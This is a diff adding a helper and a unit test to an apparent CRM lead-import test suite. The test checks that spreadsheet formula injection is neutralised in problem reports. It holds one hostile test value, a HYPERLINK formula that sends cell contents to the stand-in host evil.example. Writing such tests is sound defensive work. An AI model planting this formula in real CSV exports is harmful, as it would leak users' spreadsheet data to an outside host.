@@ -46,6 +46,12 @@ def import_text(text, encoding='utf-8', **options):
     return import_bytes(text.encode(encoding), **options)
 
 
+def csv_text(rows):
+    out = io.StringIO()
+    csv.writer(out).writerows(rows)
+    return out.getvalue()
+
+
 def leads():
     Lead = Pool().get('crm.lead')
     return Lead.search([], order=[('id', 'ASC')])
@@ -193,6 +199,22 @@ class LeadImportTestCase(unittest.TestCase):
             self.assertIn('12345', problems[0]['Problem'])
             self.assertEqual(problems[0]['Name'], "Ravi")
             self.assertEqual((summary.created, summary.errors), (2, 2))
+
+    @with_transaction()
+    def test_problem_report_is_inert_in_a_spreadsheet_and_imports_again(
+            self):
+        hostile = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
+        with set_company(create_company()):
+            _, (problem,) = import_text(
+                csv_text([['Name', 'Mobile'], [hostile, '12345']]))
+            self.assertEqual(problem['Name'], "'" + hostile)
+            # Fixed in the spreadsheet, as it shows the cells, and imported.
+            summary, problems = import_text(csv_text([['Name', 'Mobile'],
+                        [problem['Name'], "'+91 98765 43210"]]))
+            self.assertEqual((summary.created, problems), (1, []))
+            lead, = leads()
+            self.assertEqual((lead.name, lead.phone),
+                (hostile, '+919876543210'))
 
     @with_transaction()
     def test_row_without_phone_or_email_is_reported(self):
